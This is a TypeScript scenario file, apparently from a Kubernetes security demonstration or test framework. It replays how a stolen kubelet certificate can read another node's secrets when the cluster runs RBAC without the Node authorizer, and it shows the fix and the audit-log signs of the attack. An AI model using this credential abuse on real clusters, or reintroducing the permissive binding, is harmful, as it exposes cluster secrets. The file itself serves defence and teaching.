import type { Pod } from '../../api/objects';
import { clientOn } from './client-on';
import type { Scenario } from './scenario';
import { readSecret, runPodWithSecret } from './secret-of-pod';

/** Where nothing else speaks for them, kubelets need this. */
const nodesByRole = {
  path: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
  object: {
    apiVersion: 'rbac.authorization.k8s.io/v1',
    kind: 'ClusterRoleBinding',
    metadata: { name: 'nodes' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'system:node' },
    subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: 'system:nodes' }],
  },
};

export const stolenNodeCredentials: Scenario = {
  id: 'stolen-node-credentials',
  title: 'one node’s certificate, and every secret of the cluster',
  story:
    'Whoever is root on a node has /var/lib/kubelet/pki/kubelet-client-current.pem, and is that node to the apiserver. By roles alone a node is like any other: ClusterRole system:node lets each of them read every pod and every secret by its name. The Node authorizer looks along the edges node – pod – secret instead, and leaves the thief what this one node needs.',
  needs: 'The client certificate and key of one node’s kubelet: root on that node.',
  evidence:
    'The genuine apiserver answers with the Secret of a pod on another node, or refuses in the Node authorizer’s words; the node’s own Secret is read in both twins.',
  attack: ['T1552', 'T1078'],
  setting: {
    name: '--authorization-mode',
    open: 'RBAC, with ClusterRole system:node bound to system:nodes (the default before Kubernetes 1.8)',
    fixed: 'Node,RBAC',
  },
  notice:
    'In the audit log, 403s of user system:node:node-2 whose annotation authorization.k8s.io/reason says "no relationship found between node", and its source address, which is not the node’s. A thief who takes only what the node’s own pods mount leaves no other trace.',
  sources: [
    'plugin/pkg/auth/authorizer/node/node_authorizer.go',
    'plugin/pkg/auth/authorizer/rbac/bootstrappolicy/policy.go (NodeRules)',
    'kubernetes.io, "Using Node Authorization": migration considerations',
  ],
  async play(stage, twin) {
    const { signal } = stage;
    const cluster = await stage.cluster(
      twin === 'open'
        ? {
            insteadOf: { '--authorization-mode=Node,RBAC': '--authorization-mode=RBAC' },
            objects: [nodesByRole],
          }
        : {},
    );
    const foreign = await runPodWithSecret(stage, cluster, 'db', 'node-1');
    const own = await runPodWithSecret(stage, cluster, 'cache', 'node-2');

    await using thief = clientOn(cluster.attackerHost, cluster, {
      clientCertificate: cluster.pki.kubeletClients['node-2'],
    });
    const config = 'kubectl --kubeconfig kubelet.conf';
    const mine = await readSecret(thief, own.name, signal);
    if (!own.isIn(mine.text)) throw new Error(`node-2 cannot read what its own pod mounts: ${mine.text}`);
    await stage.did(
      'attacker',
      `${config} get secret ${own.name}`,
      `${mine.text}: a pod of node-2 mounts it`,
    );

    const list = `${config} get pods -A`;
    const pods = await thief.request('GET', '/api/v1/pods', { signal });
    if (pods.ok) {
      const mounts = (pods.json() as { items: Pod[] }).items.map(
        ({ metadata, spec }) => `${metadata.name} on ${spec.nodeName}`,
      );
      await stage.gained(
        'attacker',
        list,
        mounts.join(', '),
        'every pod’s spec, and so the names of all secrets in use',
      );
    } else await stage.refused('attacker', list, pods.words);

    const read = await readSecret(thief, foreign.name, signal);
    const get = `${config} get secret ${foreign.name}`;
    if (foreign.isIn(read.text)) {
      await stage.gained('attacker', get, read.text, 'the secret of a pod that runs on another node');
    } else await stage.refused('attacker', get, read.text);
  },
};
